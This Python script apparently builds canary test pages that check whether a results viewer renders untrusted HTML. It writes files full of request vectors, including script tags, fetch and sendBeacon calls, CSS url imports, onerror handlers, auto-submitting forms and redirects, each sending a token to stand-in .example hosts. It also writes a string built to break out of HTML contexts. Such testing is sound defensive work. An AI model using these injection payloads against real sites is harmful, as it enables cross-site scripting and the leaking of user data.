"""Everything that a page can do to ask for something, each at an address of its own."""
from planted import OUTPUT, token, write_scores

write_scores()
T = token()
VECTORS = f'''
<img src="http://img.example/{T}"><img srcset="http://srcset.example/{T} 2x" src="data:,">
<picture><source srcset="http://source.example/{T}"><img src="data:,"></picture>
<video src="http://video.example/{T}" poster="http://poster.example/{T}" autoplay></video>
<audio src="http://audio.example/{T}" autoplay></audio><input type="image" src="http://input.example/{T}">
<script src="http://script.example/{T}"></script><script type="module" src="http://module.example/{T}"></script>
<script>fetch("http://fetch.example/{T}"); navigator.sendBeacon("http://beacon.example/{T}", "{T}");
new Image().src = "http://image.example/{T}"; new WebSocket("ws://socket.example/{T}"); alert("{T}")</script>
<link rel="stylesheet" href="http://stylesheet.example/{T}"><link rel="preload" as="image" href="http://preload.example/{T}">
<link rel="prefetch" href="http://prefetch.example/{T}"><link rel="dns-prefetch" href="//{T}.dns.example">
<link rel="preconnect" href="http://preconnect.example"><link rel="icon" href="http://icon.example/{T}">
<link rel="manifest" href="http://manifest.example/{T}"><link rel="modulepreload" href="http://modulepreload.example/{T}">
<style>@import "http://import.example/{T}"; body {{ background: url("http://background.example/{T}") }}
@font-face {{ font-family: f; src: url("http://font.example/{T}") }} p {{ font-family: f; cursor: url("http://cursor.example/{T}"), auto }}</style>
<p style="background-image: url(http://inline.example/{T})">text</p><table background="http://table.example/{T}"><tr><td>a</table>
<iframe src="http://iframe.example/{T}"></iframe><iframe srcdoc="<img src='http://srcdoc.example/{T}'>"></iframe>
<object data="http://object.example/{T}"></object><embed src="http://embed.example/{T}">
<svg><image href="http://svg.example/{T}" /><use href="http://use.example/{T}#a" /></svg>
<math><mtext><img src="http://math.example/{T}"></mtext></math>
<img src="x:x" onerror="fetch('http://onerror.example/{T}')"><details open ontoggle="fetch('http://ontoggle.example/{T}')"></details>
'''
BREAKING_OUT = '</pre></code></textarea></title></script></style></template></noscript>-->"\'>'
PAGES = {
    'detailed_results.html': f'<!doctype html><html><body>{VECTORS}</body></html>',
    'broken.html': BREAKING_OUT + VECTORS,
    'refresh.html': f'<meta http-equiv="refresh" content="0; url=http://refresh.example/{T}">',
    'base.html': f'<base href="http://base.example/{T}/"><img src="relative.png"><script src="relative.js"></script>',
    'form.html': f'<form id="f" method="post" action="http://form.example/{T}"><input name="t" value="{T}"></form><script>f.submit()</script>',
    'location.html': f'<script>location = "http://location.example/{T}"</script>',
    'open.html': f'<body onload="window.open(\'http://open.example/{T}\')">',
    'log.txt': BREAKING_OUT + VECTORS,
}
for name, page in PAGES.items():
    with open(f'{OUTPUT}/{name}', 'w') as file:
        file.write(page)
print(BREAKING_OUT + VECTORS)
